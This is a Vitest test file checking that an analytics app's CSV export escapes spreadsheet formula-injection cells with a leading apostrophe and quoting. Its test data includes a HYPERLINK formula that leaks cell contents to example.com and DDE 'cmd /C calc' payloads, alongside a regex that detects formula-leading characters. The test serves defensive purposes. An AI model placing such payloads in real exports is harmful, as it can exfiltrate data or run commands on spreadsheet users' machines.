import { describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import { toCsv } from '../../src/lib/components/export/download.ts';
import { retentionCsvRows } from '../../src/lib/analyses/retention/view.ts';
import type { RetentionResult } from '../../src/lib/analyses/retention/spec.ts';

/** Starts a spreadsheet would run as a formula (OWASP, CSV injection), plus a line feed. */
const FORMULA = /^[=+\-@\t\r\n]/;

describe('CSV exports never hand a spreadsheet a formula', () => {
	const hostile = [
		'=HYPERLINK("https://example.com/?leak="&A1,"click")',
		"+cmd|' /C calc'!A0",
		"-2+3+cmd|' /C calc'!A0",
		"@SUM(1+1)*cmd|' /C calc'!A0",
		'\t=1+1',
		'\r=1+1',
		'=1+1\nsecond line',
		'\n=1+1'
	];

	it('each formula-like cell is written as text: a leading apostrophe, quoted', () => {
		const csv = toCsv(
			['event'],
			hostile.map((h) => [h])
		);
		const parsed = Papa.parse<string[]>(csv).data.slice(1);
		expect(parsed.map((r) => r[0])).toEqual(hostile.map((h) => `'${h}`));
		for (const [cell] of parsed) expect(cell).not.toMatch(FORMULA);
	});

	it('the exact text of one row, by hand', () => {
		expect(toCsv(['event', 'n'], [['=1+1', 3]])).toBe(`event,n\r\n"'=1+1",3`);
	});

	it('ordinary values and numbers are left as they are, negative numbers included', () => {
		const csv = toCsv(
			['a', 'b', 'c', 'd'],
			[
				['signup', -3, 0.25, 'a=b'],
				['Café, Paris', 12, null, '']
			]
		);
		expect(csv).toBe('a,b,c,d\r\nsignup,-3,0.25,a=b\r\n"Café, Paris",12,,');
	});

	it('the retention export escapes a breakdown value taken from an event property', () => {
		const result = {
			period: 'week',
			cohorts: [],
			breakdowns: [
				{
					value: '=HYPERLINK("https://example.com","x")',
					cohorts: [{ cohort: '2025-01-06', size: 4, values: [4, 1] }]
				},
				{ value: "+cmd|' /C calc'!A0", cohorts: [{ cohort: '2025-01-06', size: 2, values: [2, null] }] }
			]
		} as unknown as RetentionResult;
		const { header, rows } = retentionCsvRows(result, 2);
		const parsed = Papa.parse<string[]>(toCsv(header, rows)).data;
		expect(parsed[0]).toEqual([
			'breakdown',
			'cohort',
			'size',
			'week_0',
			'week_1',
			'week_0_pct',
			'week_1_pct'
		]);
		expect(parsed[1]).toEqual([
			`'=HYPERLINK("https://example.com","x")`,
			'2025-01-06',
			'4',
			'4',
			'1',
			'100',
			'25'
		]);
		expect(parsed[2]).toEqual([`'+cmd|' /C calc'!A0`, '2025-01-06', '2', '2', '', '100', '']);
	});
});
